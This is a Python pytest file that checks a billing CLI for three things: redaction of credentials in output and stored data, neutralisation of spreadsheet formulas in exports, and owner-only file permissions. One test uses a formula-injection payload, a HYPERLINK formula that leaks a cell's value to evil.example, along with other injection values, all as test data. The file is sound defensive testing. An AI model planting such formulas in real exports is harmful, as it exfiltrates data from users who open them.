"""Security: no credential in any output or file of a run (also failing, --verbose, --debug); exports
never hand a spreadsheet a formula; the warehouse is readable by its owner only."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result

from conftest import Project, demo_config
from focus_files import write_focus
from trainledger.cli import cli
from trainledger.core.redaction import redact

ACCESS_KEY = "AKIAFAKEKEY000000001"
SECRET_KEY = "fakeSecret/Key+0000000000000000000000000"
SESSION_TOKEN = "FakeSessionToken0000000000000000000000000000000000=="
ENDPOINT_PASSWORD = "MinioPassw0rd-do-not-print"
WEBHOOK_TOKEN = "XyzWebhookPathToken123456"
WEBHOOK_QUERY_TOKEN = "QueryToken9876543210"
SIGNATURE = "SigSecret1234567890abcdef"
ROLE_ARN = "arn:aws:iam::999988887777:role/trainledger-reader"
SECRETS = [
    ACCESS_KEY,
    SECRET_KEY,
    SESSION_TOKEN,
    ENDPOINT_PASSWORD,
    WEBHOOK_TOKEN,
    WEBHOOK_QUERY_TOKEN,
    SIGNATURE,
]

WEBHOOK = f"https://hooks.example.invalid/services/T0000/B0000/{WEBHOOK_TOKEN}?token={WEBHOOK_QUERY_TOKEN}"
S3_SOURCE = f"""
[[sources]]
name = "payer-cur2"
kind = "aws-cur2"
uri = "s3://ml-billing-exports/cur/ml-cur2"
role_arn = "{ROLE_ARN}"
region = "us-east-1"
endpoint_url = "http://minio:{ENDPOINT_PASSWORD}@127.0.0.1:9"
enabled = {{enabled}}
"""


@pytest.fixture
def credentials(project: Project, demo_files: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """The demo project with fake AWS credentials in the environment and secrets in its config."""
    for name, value in {
        "AWS_ACCESS_KEY_ID": ACCESS_KEY,
        "AWS_SECRET_ACCESS_KEY": SECRET_KEY,
        "AWS_SESSION_TOKEN": SESSION_TOKEN,
        "AWS_MAX_ATTEMPTS": "1",
        "AWS_EC2_METADATA_DISABLED": "true",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(project.root)
    return project


def configure(project: Project, demo_files: Path, *, s3_enabled: bool, log_uri: str | None = None) -> None:
    config = demo_config(demo_files, budget=True).replace(
        'amount = "6000.00"', 'amount = "100.00"'
    )  # alerts fire
    if log_uri:
        config = config.replace(f'uri = "{demo_files / "experiments.jsonl"}"', f'uri = "{log_uri}"')
    config += S3_SOURCE.format(enabled=str(s3_enabled).lower()) + f'\n[alerts]\nwebhook_url = "{WEBHOOK}"\n'
    project.write_config(config)


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def leaks(project: Project, results: list[Result]) -> list[str]:
    """Every secret found in the runs' stdout/stderr or in any file the runs wrote (the config aside)."""
    texts = {f"output of run {i}": r.stdout + r.stderr for i, r in enumerate(results)}
    con = duckdb.connect(str(project.warehouse), read_only=True)
    for (table,) in con.execute("SELECT table_name FROM duckdb_tables()").fetchall():
        texts[f"table {table}"] = repr(con.execute(f'SELECT * FROM "{table}"').fetchall())
    con.close()
    for path in project.root.rglob("*"):
        if path.is_file() and path != project.config:
            texts[str(path)] = path.read_bytes().decode("utf-8", "replace")
    found = [f"{secret} in {where}" for where, text in texts.items() for secret in SECRETS if secret in text]
    found += [
        f"role ARN in {where}" for where, text in texts.items() if ROLE_ARN in text and "output" not in where
    ]
    return found


def test_no_credential_in_any_output_or_file(credentials: Project, demo_files: Path) -> None:
    configure(credentials, demo_files, s3_enabled=False)
    ok = invoke("--verbose", "nightly", "--alerts-out", "alerts.json")
    assert ok.exit_code == 2, ok.stderr  # the lowered budget crossed its thresholds

    configure(credentials, demo_files, s3_enabled=True)
    failing = invoke("--verbose", "nightly")
    debug = invoke("--debug", "--verbose", "nightly")
    assert (failing.exit_code, debug.exit_code) == (1, 1)
    assert "Traceback (most recent call last)" in debug.stderr

    configure(
        credentials,
        demo_files,
        s3_enabled=False,
        log_uri=f"https://u:{ENDPOINT_PASSWORD}@logs.example.invalid/x?X-Amz-Signature={SIGNATURE}",
    )
    leaky_error = invoke("--debug", "nightly")
    assert leaky_error.exit_code == 1
    assert (
        "experiment log https://***@logs.example.invalid/x?X-Amz-Signature=*** expected a local path"
        in leaky_error.stderr
    )

    assert leaks(credentials, [ok, failing, debug, leaky_error]) == []


def test_an_internal_error_carrying_a_secret_is_masked_everywhere(
    credentials: Project, demo_files: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure(credentials, demo_files, s3_enabled=False)
    import trainledger.pipeline.experiments_loader

    def broken(*args: object, **kwargs: object) -> int:
        raise RuntimeError(f"auth failed for {os.environ['AWS_SECRET_ACCESS_KEY']} via {WEBHOOK}")

    monkeypatch.setattr(trainledger.pipeline.experiments_loader, "load", broken)
    plain = invoke("nightly")
    debug = invoke("--debug", "nightly")
    assert plain.exit_code == debug.exit_code == 3
    assert plain.stderr.splitlines()[-1] == (
        "trainledger: internal error: RuntimeError: auth failed for *** via *** (rerun with --debug for the traceback)"
    )
    assert 'raise RuntimeError(f"auth failed for' in debug.stderr  # the traceback is there, masked
    assert leaks(credentials, [plain, debug]) == []
    con = duckdb.connect(str(credentials.warehouse), read_only=True)
    errors = con.execute(
        "SELECT json_extract_string(detail, '$.error') FROM runs WHERE outcome = 'failed'"
    ).fetchall()
    assert errors == [("RuntimeError: auth failed for *** via ***",)] * 2


def test_an_llm_admin_key_an_error_repeats_is_masked_everywhere(
    credentials: Project, demo_files: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The admin keys of openai-costs / anthropic-costs live in the environment variables their sources name.
    admin_keys = {
        "OPENAI_ADMIN_KEY": "sk-admin-PlantedOpenAIKey000111",
        "ANTHROPIC_KEY": "sk-ant-admin01-Planted222",
    }
    for name, value in admin_keys.items():
        monkeypatch.setenv(name, value)
    configure(credentials, demo_files, s3_enabled=False)
    credentials.write_config(
        credentials.config.read_text(encoding="utf-8")
        + '\n[[sources]]\nname = "openai"\nkind = "openai-costs"\napi_key_env = "OPENAI_ADMIN_KEY"\nenabled = false\n'
        + '\n[[sources]]\nname = "claude"\nkind = "anthropic-costs"\napi_key_env = "ANTHROPIC_KEY"\nenabled = false\n'
    )
    import trainledger.pipeline.experiments_loader

    def broken(*args: object, **kwargs: object) -> int:
        raise RuntimeError(f"keys {os.environ['OPENAI_ADMIN_KEY']} and {os.environ['ANTHROPIC_KEY']} refused")

    monkeypatch.setattr(trainledger.pipeline.experiments_loader, "load", broken)
    plain = invoke("nightly")
    debug = invoke("--debug", "nightly")
    assert plain.exit_code == debug.exit_code == 3
    assert "RuntimeError: keys *** and *** refused" in plain.stderr
    monkeypatch.setattr("test_security.SECRETS", [*SECRETS, *admin_keys.values()])
    assert leaks(credentials, [plain, debug]) == []


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (
            "connect to http://minio:pw12345678@10.0.0.1:9000/b failed",
            "connect to http://***@10.0.0.1:9000/b failed",
        ),
        (
            "GET https://s3.example/x?X-Amz-Credential=AKIA/1&X-Amz-Signature=abc&part=2",
            "GET https://s3.example/x?X-Amz-Credential=***&X-Amz-Signature=***&part=2",
        ),
        (
            "post https://hooks.example/h?access_token=tok1234567&channel=ml",
            "post https://hooks.example/h?access_token=***&channel=ml",
        ),
        ("no secret here: s3://bucket/key@2026-11.csv", "no secret here: s3://bucket/key@2026-11.csv"),
    ],
)
def test_redact_masks_credentials_by_their_shape(text: str, masked: str) -> None:
    assert redact(text) == masked


def test_exports_never_hand_a_spreadsheet_a_formula(run, project: Project) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    write_focus(
        project.root / "bill.csv",
        [
            {
                "BilledCost": "-5.25",
                "BillingAccountId": "+15551234",
                "ServiceName": "@SUM(A1:A9)",
                "Tags": {"project": formula, "phase": "train", "method": "sft", "experiment": "-2+3"},
            }
        ],
    )
    project.write_config(
        '[[sources]]\nname = "bill"\nkind = "focus"\nuri = "bill.csv"\n\n[exports]\ndir = "exports"\n'
    )
    assert run("nightly").exit_code == 0
    export = (project.root / "exports" / "trainledger-2026-11.csv").read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(export)))
    assert row["project"] == "'" + formula.lower()
    assert row["experiment_id"] == "'-2+3"
    assert row["service_name"] == "'@SUM(A1:A9)"
    assert row["billing_account_id"] == "'+15551234"
    assert (row["billed_cost"], row["effective_cost"]) == ("-5.25", "-5.25")  # money stays a plain number

    report = next(
        csv.DictReader(io.StringIO(run("report", "--by", "project,experiment", "--format", "csv").stdout))
    )
    assert (report["project"], report["experiment_id"]) == ("'" + formula.lower(), "'-2+3")

    markdown = run("reconcile", "--format", "markdown", "--", "-2+3")
    assert markdown.exit_code == 0, markdown.stderr
    table = [line for line in markdown.stdout.splitlines() if line.startswith("| train")]
    assert table == ["| train | compute | no estimate | -5.25 | - | - |"]


def test_the_warehouse_is_readable_by_its_owner_only(run, project: Project) -> None:
    assert run("nightly").exit_code == 0
    assert stat.S_IMODE(project.warehouse.stat().st_mode) == 0o600
    assert stat.S_IMODE(project.warehouse.parent.stat().st_mode) == 0o700
    export = project.root / "exports" / "trainledger-2026-11.csv"
    assert stat.S_IMODE(export.stat().st_mode) == 0o600  # finance exports are the ledger's data too
